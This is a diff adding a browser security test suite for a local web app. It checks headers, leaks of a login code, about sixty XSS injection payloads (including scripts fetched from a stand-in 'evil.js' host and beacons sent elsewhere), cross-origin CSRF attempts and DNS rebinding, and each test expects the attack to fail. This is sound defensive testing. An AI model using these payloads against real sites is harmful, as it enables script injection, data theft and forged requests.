@@ -1,0 +1,404 @@
+// S-05, and what of S-11 to S-13 only a browser can show.
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { securityHeaders } from '#core/base/web-security.ts';
+import { openCockpit, type TestCockpit } from './support/cockpit.ts';
+import { screenAddresses } from './support/screens.ts';
+
+let cockpit: TestCockpit;
+let hostile: HostilePage;
+/** Requests that the host did not look at. */
+const refused: string[] = [];
+
+beforeAll(async () => {
+  cockpit = await openCockpit({
+    log: {
+      write: (_level, event) => {
+        if (event === 'serve.refused') refused.push(event);
+      },
+    },
+  });
+  hostile = await startHostilePage();
+}, 120_000);
+
+afterAll(async () => {
+  hostile.server.close();
+  await cockpit?.close();
+});
+
+interface HostilePage {
+  readonly server: Server;
+  readonly port: number;
+  /** What reached it: a secret here would be one that got out. */
+  readonly received: string[];
+}
+
+/** Another local web application in the same browser. */
+async function startHostilePage(): Promise<HostilePage> {
+  const received: string[] = [];
+  const server = createServer((request, response) => {
+    received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
+    response.setHeader('access-control-allow-origin', '*');
+    response.setHeader('content-type', request.url?.endsWith('.js') ? 'text/javascript' : 'text/html');
+    response.end(request.url?.endsWith('.js') ? 'window.__ran = true' : '<!doctype html><p>elsewhere</p>');
+  });
+  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
+  return { server, port: (server.address() as AddressInfo).port, received };
+}
+
+const headerNames = Object.keys(securityHeaders);
+
+describe('in normal use', () => {
+  it('every answer carries the policy and its companions, on every screen', async () => {
+    const answers: { url: string; missing: string[] }[] = [];
+    cockpit.page.on('response', (response) => {
+      const headers = response.headers();
+      const missing = headerNames.filter(
+        (name) => headers[name] !== securityHeaders[name as keyof typeof securityHeaders],
+      );
+      answers.push({ url: response.url(), missing });
+    });
+    await cockpit.enter('maria');
+    for (const address of screenAddresses) await cockpit.goTo(address);
+    await cockpit.enter('audrey', '/journal');
+    await cockpit.settled();
+    expect(answers.length).toBeGreaterThan(20);
+    expect(answers.filter(({ missing }) => missing.length > 0)).toEqual([]);
+    cockpit.expectNoTrouble();
+  }, 120_000);
+
+  it('the code leaves the address, the history and every header', async () => {
+    const seen: string[] = [];
+    cockpit.page.on('request', (request) => {
+      seen.push(`${request.url()} ${JSON.stringify(request.headers())}`);
+    });
+    const link = cockpit.cockpit.newLink();
+    const code = link.split('#code=')[1] ?? '';
+    await cockpit.page.goto('about:blank');
+    await cockpit.page.goto(link);
+    await cockpit.page.getByRole('heading', { name: 'Who is working?' }).waitFor();
+    expect(cockpit.page.url()).not.toContain(code);
+    const { referrer, storage } = await cockpit.page.evaluate(() => ({
+      referrer: document.referrer,
+      storage: JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
+    }));
+    expect(referrer).toBe('');
+    expect(storage).toBe('[{},{},""]');
+    // Only the swap itself carried it, in its body; the address bar's fragment is not sent.
+    expect(seen.filter((one) => one.replace(link, '').includes(code))).toEqual([]);
+    await cockpit.choose('maria');
+    await cockpit.page.goBack();
+    expect(cockpit.page.url()).not.toContain(code);
+    await cockpit.enter('maria');
+  });
+});
+
+/** Ways to get code to run in the page by what ends up in its document. `go` stands for what would betray it. */
+function injections(elsewhere: string): readonly (readonly [name: string, inject: string])[] {
+  const go = `window.__ran=true`;
+  const remote = `${elsewhere}/evil.js`;
+  const data = `data:text/javascript,${go}`;
+  const html = (markup: string): string => `html:${markup}`;
+  const events = [
+    'onload',
+    'onerror',
+    'onclick',
+    'onfocus',
+    'onpointerenter',
+    'onanimationstart',
+    'ontoggle',
+  ];
+  return [
+    ['inline script', html(`<script>${go}</script>`)],
+    ['remote script', html(`<script src="${remote}"></script>`)],
+    ['data script', html(`<script src="${data}"></script>`)],
+    ['script module', html(`<script type="module">${go}</script>`)],
+    ['remote module', html(`<script type="module" src="${remote}"></script>`)],
+    ['import map', html(`<script type="importmap">{"imports":{"x":"${remote}"}}</script>`)],
+    [
+      'speculation rules',
+      html(`<script type="speculationrules">{"prefetch":[{"urls":["${remote}"]}]}</script>`),
+    ],
+    ...events.map(
+      (event) => [`${event} of an image`, html(`<img src="x:" ${event}="${go}" tabindex=0>`)] as const,
+    ),
+    ...events.map(
+      (event) =>
+        [`${event} of a drawing`, html(`<svg ${event}="${go}"><g ${event}="${go}"/></svg>`)] as const,
+    ),
+    ['script in a drawing', html(`<svg><script>${go}</script></svg>`)],
+    ['href of a drawing', html(`<svg><script href="${remote}"/></svg>`)],
+    [
+      'animated href',
+      html(`<svg><a><animate attributeName="href" values="javascript:${go}"/><text>x</text></a></svg>`),
+    ],
+    ['a link with a script', html(`<a id="press" href="javascript:${go}">x</a>`)],
+    ['a link of data', html(`<a id="press" href="data:text/html,<script>${go}</script>">x</a>`)],
+    ['a form with a script', html(`<form action="javascript:${go}"><button id="press">x</button></form>`)],
+    [
+      'a button with a script',
+      html(`<form><button id="press" formaction="javascript:${go}">x</button></form>`),
+    ],
+    [
+      'a form to elsewhere',
+      html(`<form action="${elsewhere}/taken" method="post"><button id="press">x</button></form>`),
+    ],
+    ['frame of a script', html(`<iframe src="javascript:parent.${go}"></iframe>`)],
+    ['frame of data', html(`<iframe src="data:text/html,<script>parent.${go}</script>"></iframe>`)],
+    ['frame with a document', html(`<iframe srcdoc="<script>parent.${go}</script>"></iframe>`)],
+    ['remote frame', html(`<iframe src="${elsewhere}/frame"></iframe>`)],
+    ['object', html(`<object data="${remote}"></object>`)],
+    ['object of data', html(`<object data="data:text/html,<script>${go}</script>"></object>`)],
+    ['embed', html(`<embed src="${elsewhere}/frame">`)],
+    ['base', html(`<base href="${elsewhere}/">`)],
+    ['refresh', html(`<meta http-equiv="refresh" content="0;url=javascript:${go}">`)],
+    [
+      'policy of its own',
+      html(
+        `<meta http-equiv="content-security-policy" content="script-src *"><script src="${remote}"></script>`,
+      ),
+    ],
+    [
+      'style element',
+      html(`<style>@import url(${elsewhere}/evil.css);body{background:url(${elsewhere}/bg)}</style>`),
+    ],
+    ['style attribute', html(`<p style="background:url(${elsewhere}/attribute)">x</p>`)],
+    ['style sheet', html(`<link rel="stylesheet" href="${elsewhere}/evil.css">`)],
+    ['preload', html(`<link rel="preload" as="script" href="${remote}">`)],
+    ['prefetch', html(`<link rel="prefetch" href="${elsewhere}/prefetch">`)],
+    ['manifest', html(`<link rel="manifest" href="${elsewhere}/manifest">`)],
+    ['remote image', html(`<img src="${elsewhere}/pixel">`)],
+    ['image set', html(`<img srcset="${elsewhere}/pixel 1x">`)],
+    ['remote video', html(`<video src="${elsewhere}/video" autoplay></video>`)],
+    ['remote sound', html(`<audio src="${elsewhere}/sound" autoplay></audio>`)],
+    ['eval', `js:(0, eval)(${JSON.stringify(go)})`],
+    ['Function', `js:new Function(${JSON.stringify(go)})()`],
+    ['timer of text', `js:setTimeout(${JSON.stringify(go)}, 0)`],
+    ['interval of text', `js:setInterval(${JSON.stringify(go)}, 5)`],
+    ['import of data', `js:import(${JSON.stringify(data)})`],
+    ['import of elsewhere', `js:import(${JSON.stringify(remote)})`],
+    ['worker of elsewhere', `js:new Worker(${JSON.stringify(remote)})`],
+    ['worker of data', `js:new Worker(${JSON.stringify(data)})`],
+    ['worker of a blob', `js:new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/blob')"])))`],
+    ['shared worker of data', `js:new SharedWorker(${JSON.stringify(data)})`],
+    ['service worker of elsewhere', `js:navigator.serviceWorker.register(${JSON.stringify(remote)})`],
+    ['request elsewhere', `js:fetch('${elsewhere}/fetch')`],
+    ['blind request elsewhere', `js:fetch('${elsewhere}/blind', { mode: 'no-cors' })`],
+    ['beacon elsewhere', `js:navigator.sendBeacon('${elsewhere}/beacon', 'x')`],
+    ['event stream elsewhere', `js:new EventSource('${elsewhere}/events')`],
+    ['socket elsewhere', `js:new WebSocket('${elsewhere.replace('http', 'ws')}/socket')`],
+    [
+      'old request elsewhere',
+      `js:(() => { const r = new XMLHttpRequest(); r.open('GET', '${elsewhere}/xhr'); r.send(); })()`,
+    ],
+    ['markup by a sink', `js:(() => { document.body.innerHTML += '<img src=x: onerror="${go}">'; })()`],
+    ['document.write', `js:document.write('<script>${go}<\\/script>')`],
+    [
+      'a script element with text',
+      `js:(() => { const s = document.createElement('script'); s.text = '${go}'; document.body.append(s); })()`,
+    ],
+    [
+      'a script element from elsewhere',
+      `js:(() => { const s = document.createElement('script'); s.setAttribute('src', '${remote}'); document.body.append(s); })()`,
+    ],
+  ];
+}
+
+/** The page with an empty place in it; opened anew only where the last attempt left none. */
+async function preparedPage(page: Page): Promise<void> {
+  const isThere = await page.evaluate(() => document.getElementById('root') !== null).catch(() => false);
+  if (!isThere || !page.url().startsWith(`${cockpit.origin}/`)) {
+    await page.goto('about:blank');
+    await page.goto(`${cockpit.origin}/`);
+  }
+  await page.evaluate(() => {
+    document.getElementById('victim')?.remove();
+    const victim = document.createElement('div');
+    victim.id = 'victim';
+    document.body.append(victim);
+  });
+}
+
+/** Puts the injection into the page by the debugger, past the policy: as if our own code had let it in. */
+async function inject(page: Page, what: string): Promise<void> {
+  const client = await page.context().newCDPSession(page);
+  try {
+    if (what.startsWith('html:')) {
+      // Parsed by the browser's own parser into nodes, which are put into the page alive.
+      const { root } = await client.send('DOM.getDocument', { depth: 2 });
+      const { nodeId } = await client.send('DOM.querySelector', { nodeId: root.nodeId, selector: '#victim' });
+      const outerHTML = `<div id="victim">${what.slice('html:'.length)}</div>`;
+      await client.send('DOM.setOuterHTML', { nodeId, outerHTML });
+      await page.evaluate(() => {
+        document.getElementById('press')?.click();
+      });
+    } else {
+      await client.send('Runtime.evaluate', {
+        expression: `try { Promise.resolve(${what.slice('js:'.length)}).catch(() => {}) } catch {}`,
+        userGesture: true,
+        allowUnsafeEvalBlockedByCSP: false,
+      });
+    }
+  } finally {
+    await client.detach();
+  }
+}
+
+describe('what is injected', () => {
+  const count = injections('http://x').length;
+
+  it(`does not run and asks nobody: ${count} ways`, async () => {
+    expect(count).toBeGreaterThanOrEqual(60);
+    const context = await cockpit.browser.newContext();
+    const page = await context.newPage();
+    page.on('dialog', (dialog) => void dialog.dismiss());
+    const elsewhere = `http://127.0.0.1:${hostile.port}`;
+    const before = hostile.received.length;
+    for (const [name, what] of injections(elsewhere)) {
+      await preparedPage(page);
+      await inject(page, what);
+      await page.waitForTimeout(60);
+      const ran = await page.evaluate(() => (window as { __ran?: boolean }).__ran ?? false);
+      expect(ran, name).toBe(false);
+      expect(
+        page.url().startsWith(cockpit.origin) || page.url() === 'about:blank',
+        `${name}: ${page.url()}`,
+      ).toBe(true);
+      expect(hostile.received.slice(before), name).toEqual([]);
+    }
+    await context.close();
+  }, 120_000);
+});
+
+describe('a hostile page on another port (S-13)', () => {
+  it('changes nothing and reads nothing', async () => {
+    await cockpit.enter('maria');
+    const before = cockpit.world.core.journal.head().seq;
+    refused.length = 0;
+    // In the same browser with the same session, as any other tab would be.
+    const page = await cockpit.context.newPage();
+    await page.goto(`http://127.0.0.1:${hostile.port}/`);
+    const read = await page.evaluate(attack, cockpit.origin);
+    await page.waitForTimeout(500);
+    expect(read).toEqual([]);
+    // Every one of them arrived, and none got past the first look.
+    expect(refused.length).toBeGreaterThan(12);
+    expect(cockpit.world.core.journal.head().seq).toBe(before);
+    expect(cockpit.world.core.jobs.all()).toEqual([]);
+    await page.close();
+    // That page complains of what it was refused, and is not ours.
+    cockpit.trouble.consoleErrors.length = 0;
+    cockpit.trouble.foreignRequests.length = 0;
+  }, 60_000);
+
+  it('cannot frame it, nor hold on to its window', async () => {
+    const page = await cockpit.context.newPage();
+    await page.goto(`http://127.0.0.1:${hostile.port}/`);
+    const held = await page.evaluate(async (origin) => {
+      const frame = document.createElement('iframe');
+      frame.src = `${origin}/`;
+      document.body.append(frame);
+      const opened = window.open(`${origin}/`);
+      await new Promise((done) => setTimeout(done, 700));
+      let text = '';
+      try {
+        text = frame.contentDocument?.body.textContent ?? '';
+      } catch {
+        text = '';
+      }
+      return { text, isClosed: opened?.closed ?? true };
+    }, cockpit.origin);
+    expect(held.text).not.toContain('Tieout');
+    expect(held.isClosed).toBe(true);
+    await page.close();
+    cockpit.trouble.consoleErrors.length = 0;
+    cockpit.trouble.foreignRequests.length = 0;
+  });
+});
+
+/** Everything a page may try without being asked; gives back whatever it could read. */
+async function attack(origin: string): Promise<string[]> {
+  const read: string[] = [];
+  const change = `${origin}/api/jobs.start`;
+  const body = JSON.stringify({ kind: 'sync' });
+  const attempts: (() => Promise<Response>)[] = [
+    () => fetch(`${origin}/`),
+    () => fetch(`${origin}/api/session.get`),
+    () => fetch(`${origin}/api/session.get`, { mode: 'no-cors' }),
+    () => fetch(`${origin}/api/session.get`, { credentials: 'include' }),
+    () => fetch(`${origin}/files.json`),
+    () => fetch(change, { method: 'POST', mode: 'no-cors', body }),
+    () => fetch(change, { method: 'POST', mode: 'no-cors', body, headers: { 'content-type': 'text/plain' } }),
+    () => fetch(change, { method: 'POST', body, headers: { 'content-type': 'application/json' } }),
+    () => fetch(change, { method: 'POST', body, headers: { 'x-tieout-request': '1' } }),
+    () => fetch(change, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ kind: 'sync' }) }),
+    () => fetch(`${origin}/session`, { method: 'POST', mode: 'no-cors', body: '{"code":"x"}' }),
+  ];
+  for (const attempt of attempts) {
+    try {
+      const text = await (await attempt()).text();
+      if (text !== '') read.push(text);
+    } catch {
+      // Refused before it could be read, as it should be.
+    }
+  }
+  navigator.sendBeacon(change, new Blob([body], { type: 'text/plain' }));
+  for (const [tag, name] of [
+    ['img', 'src'],
+    ['script', 'src'],
+    ['link', 'href'],
+    ['object', 'data'],
+  ] as const) {
+    const element = document.createElement(tag);
+    element.setAttribute(name, `${origin}/api/session.get`);
+    if (tag === 'link') element.setAttribute('rel', 'stylesheet');
+    document.body.append(element);
+  }
+  const form = document.createElement('form');
+  const frame = document.createElement('iframe');
+  frame.name = 'sink';
+  Object.assign(form, { action: change, method: 'post', enctype: 'text/plain', target: 'sink' });
+  const input = document.createElement('input');
+  Object.assign(input, { name: '{"kind":"sync","x":"', value: '"}' });
+  form.append(input);
+  document.body.append(frame, form);
+  form.submit();
+  const socket = new WebSocket(`${origin.replace('http', 'ws')}/api/ws`);
+  socket.onmessage = ({ data }) => read.push(String(data));
+  const events = new EventSource(`${origin}/api/changes.since`);
+  events.onmessage = ({ data }) => read.push(String(data));
+  await new Promise((done) => setTimeout(done, 500));
+  return read;
+}
+
+describe('a name that resolves to this machine (S-11)', () => {
+  it('is refused by the host, whatever the browser believes', async () => {
+    const { launchChromium } = await import('./support/chromium.ts');
+    const browser = await launchChromium(['--host-resolver-rules=MAP rebind.example 127.0.0.1']);
+    try {
+      const page = await browser.newPage();
+      const { port } = new URL(cockpit.origin);
+      const answer = await page.goto(`http://rebind.example:${port}/`);
+      expect(answer?.status()).toBe(403);
+      expect(await page.content()).not.toContain('id="root"');
+      const statuses = await page.evaluate(async () => {
+        const headers = { 'x-tieout-request': '1', 'content-type': 'application/json' };
+        const asked = await Promise.all([
+          fetch('/api/session.get', { headers }),
+          fetch('/session', { method: 'POST', headers, body: '{"code":"x"}' }),
+          fetch('/index.html'),
+        ]);
+        return asked.map(({ status }) => status);
+      });
+      expect(statuses).toEqual([403, 403, 403]);
+      for (const name of ['localhost', '127.0.0.1.nip.io']) {
+        const refused = await page.goto(`http://${name}:${port}/`).catch(() => null);
+        expect(refused?.status() ?? 403).toBe(403);
+      }
+    } finally {
+      await browser.close();
+    }
+  });
+});
